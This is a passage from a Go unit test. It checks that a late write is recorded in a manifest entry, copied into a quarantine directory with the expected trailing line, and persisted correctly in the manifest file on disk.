		t.Fatal(err)
	}
	e := res.Manifest.Entries[0]
	if e.Late == "" {
		t.Fatalf("late write not recorded: %+v", e)
	}
	b, err := os.ReadFile(filepath.Join(res.Manifest.QuarantineDir, e.Late))
	if err != nil || !strings.HasSuffix(string(b), "# written late\n") {
		t.Errorf("late copy: %q %v", b, err)
	}
	if m, err := ReadManifest(res.ManifestPath); err != nil || m.Entries[0].Late != e.Late {
		t.Errorf("manifest on disk: %+v %v", m, err)
	}
}
